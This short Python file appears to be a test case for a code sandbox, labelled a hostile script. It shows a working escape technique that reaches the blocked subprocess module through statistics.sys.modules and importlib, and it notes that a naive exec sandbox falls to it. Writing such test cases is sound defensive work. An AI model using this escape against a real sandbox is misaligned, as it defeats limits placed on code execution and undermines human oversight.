# ruff: noqa - a hostile script, kept as written
# threat: 2 reach a module that is not allowed
# technique: statistics.sys.modules -> import subprocess through sys
# naive exec: escapes: statistics re-exports sys; sys.modules['importlib'] imports anything
import statistics
importlib = statistics.sys.modules["importlib"]
subprocess = importlib.import_module("subprocess")
result = "ESCAPED " + subprocess.__name__
